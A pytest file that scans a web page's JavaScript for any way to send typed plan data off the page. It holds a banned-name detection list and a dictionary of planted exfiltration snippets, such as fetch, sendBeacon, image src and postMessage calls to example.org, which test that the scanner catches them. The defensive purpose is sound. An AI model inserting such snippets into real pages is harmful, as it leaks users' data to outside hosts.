"""Nothing that is typed into the plan can leave the page: its scripts hold no call that could send it.

The scan knows a list of what the scripts may call, make and set, and refuses all else; so a new way to send is refused
before anyone has heard of it. Every known way is planted here and must be found.
"""

import re
import tomllib
from pathlib import Path

import pytest

THEME = Path(__file__).parents[2] / "theme"
BUNDLES = THEME / "bundles.toml"
MADE = re.compile(r"\bnew\s+([\w.]+)")
TAGS = re.compile(r"""(?:createElement|createElementNS)\(\s*(?:\w+,\s*)?["'`]([\w]+)""")
PATHS = re.compile(r"\b(?:window|document|navigator|location|history|self|globalThis|top|parent)\b(?:\??\.(\w+))?")
WHOLE = re.compile(
    r"(?<!const )(?<!let )\b(window|document|navigator|location|history|self|globalThis)\s*(?:=(?![=>])|\[)"
)
"""A global thing set as a whole, or reached into by a name that is worked out."""
SET = re.compile(r"\.(\w+)\s*(?:[-+]?=)(?![=>])")
KEYS = re.compile(
    r"""["']?(src|srcset|href|action|formaction|ping|poster|data|style|background|cite|manifest|http-equiv|rel|target|srcdoc|method)["']?\s*:\s*([^,}]+)"""
)
BANNED = re.compile(
    r"\b(fetch|XMLHttpRequest|sendBeacon|WebSocket|WebTransport|EventSource|RTCPeerConnection|Worker|SharedWorker|Image|Audio|"
    r"importScripts|eval|Function|open|postMessage|BroadcastChannel|serviceWorker|innerHTML|outerHTML|insertAdjacentHTML|"
    r"insertRule|adoptedStyleSheets|CSSStyleSheet|cssText|speechSynthesis|credentials|share|import|setInterval|setTimeout|"
    r"requestSubmit|submit|assign|cookie|indexedDB|caches|FontFace|PaymentRequest|Reflect|Proxy)\s*(?=\(|=|\.|\[|\))"
)
MAY_MAKE = {
    "Blob", "Date", "Error", "Fault", "Map", "RegExp", "Set", "WeakMap",
    "planApp.App", "planItems.Items", "planKeep.Keep", "planLibrary.Library",
}  # fmt: skip
MAY_TAG = {
    "a", "button", "caption", "dd", "details", "div", "dl", "dt", "fieldset", "figcaption", "figure", "h1", "h2", "h3", "h4",
    "h5", "input", "label", "legend", "li", "meta", "nav", "ol", "output", "p", "path", "section", "span", "strong", "style",
    "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead", "tr", "ul", "main",
}  # fmt: skip
MAY_REACH = {
    "addEventListener", "activeElement", "alsguide", "body", "clipboard", "createElement", "createElementNS", "getElementById",
    "format", "hash", "implementation", "pathname", "plan", "print", "querySelector", "replaceState", "search", "version",
}  # fmt: skip
"""`format`, `plan` and `version` are those of a plan file, which plan-file.js calls a document."""
OWN_DATA = "this.data = data;"
"""The state of the page keeps the page's data; it is no element."""
MAY_KEY = {"href: `#${id", "href: lastAddress", 'http-equiv: "Content-Security-Policy"'}


def scripts() -> dict[str, str]:
    """Return the scripts of the plan page by name, without comments."""
    names = [f"{part}.js" for part in tomllib.loads(BUNDLES.read_text("utf-8"))["scripts"]["plan"]]
    assert len(names) >= 15
    return {
        name: re.sub(
            r"/\*.*?\*/|^\s*//[^\n]*", "", next(THEME.rglob(name)).read_text("utf-8"), flags=re.DOTALL | re.MULTILINE
        )
        for name in names
    }


def errors(text: str) -> list[str]:
    """Return everything in a script that is not on the lists."""
    found = [f"makes {name}" for name in MADE.findall(text) if name not in MAY_MAKE]
    found += [f"element {tag}" for tag in TAGS.findall(text) if tag not in MAY_TAG]
    found += [
        f"reaches {name or 'all of it'}" for name in PATHS.findall(text) if name not in MAY_REACH and not harmless(name)
    ]
    found += [f"takes the whole {name}" for name in WHOLE.findall(text)]
    found += ["reaches a constructor" for _ in re.findall(r"\.constructor\b", text)]
    found += [f"names {name}" for name in BANNED.findall(text) if not allowed(name, text)]
    for key, value in KEYS.findall(text):
        if f"{key}: {value.strip()}" not in MAY_KEY and key not in ("data", "style", "method", "target"):
            found.append(f"sets {key}")
    found += [
        f"assigns {name}"
        for name in SET.findall(text.replace(OWN_DATA, ""))
        if name
        in {"src", "href", "action", "location", "srcset", "data", "ping", "domain", "name", "cookie", "onerror"}
    ]
    return found


def harmless(name: str) -> bool:
    """Return whether nothing is reached: the word stands in a text, or is the name of an own value."""
    return name in ("", "title")


def allowed(name: str, text: str) -> bool:
    """Return whether a banned name is an own one in this script, or the one use that is known."""
    if name == "outerHTML":
        return text.count("outerHTML") == text.count("page.documentElement.outerHTML") == 1
    if name == "open":
        return not re.search(r"\b(window|document|self)\s*\.\s*open|(?<![\w.])open\s*\((?!\s*\))", text)
    return False


@pytest.mark.parametrize("name", sorted(scripts()))
def test_a_script_of_the_plan_page_holds_only_what_is_listed(name: str) -> None:
    """When it fails: do it another way. Add to a list only what can never send anything anywhere."""
    assert errors(scripts()[name]) == []


LEAKS = {
    "fetch": "fetch('https://example.org/?' + plan)",
    "request": "new XMLHttpRequest().open('POST', '/x')",
    "beacon": "navigator.sendBeacon('/x', plan)",
    "web socket": "new WebSocket('wss://example.org')",
    "event source": "new EventSource('/x')",
    "web transport": "new WebTransport('https://example.org')",
    "image": "new Image().src = 'https://example.org/' + plan",
    "image element": "createElement('img', { src: plan })",
    "script": "document.createElement('script').src = plan",
    "style": "createElement('link', { rel: 'stylesheet', href: plan })",
    "style text": "sheet.insertRule('a { background: url(/x) }')",
    "form": "createElement('form', { action: plan }).submit()",
    "frame": "createElement('iframe', { src: plan })",
    "link ping": "createElement('a', { href: '#', ping: '/x' })",
    "prefetch": "createElement('link', { rel: 'prefetch', href: '/x' })",
    "new window": "window.open('/x?' + plan)",
    "bare new window": "open('/x?' + plan)",
    "location": "location = '/x?' + plan",
    "location address": "location.href = '/x?' + plan",
    "location call": "location.assign('/x?' + plan)",
    "link followed": "link.href = '/x?' + plan; link.click()",
    "rtc": "new RTCPeerConnection()",
    "worker": "new Worker('/x.js')",
    "import": "import('/x.js')",
    "message": "window.parent.postMessage(plan, '*')",
    "markup": "root.innerHTML = plan",
    "speech": "speechSynthesis.speak(plan)",
    "cookie": "document.cookie = plan",
    "evaluated": "eval(plan)",
    "window by name": "globalThis['fet' + 'ch'](plan)",
    "service worker": "navigator.serviceWorker.register('/x.js')",
    "refresh": "createElement('meta', { 'http-equiv': 'refresh', content: '0; url=/x' })",
    "object": "createElement('object', { data: plan })",
    "video": "createElement('video', { poster: plan })",
    "share": "navigator.share({ text: plan })",
}


@pytest.mark.parametrize("way", sorted(LEAKS))
def test_every_known_way_out_is_found_when_it_is_planted(way: str) -> None:
    base = scripts()["plan-keep.js"]
    assert errors(base) == []
    assert errors(f"{base}\n{LEAKS[way]};\n") != []
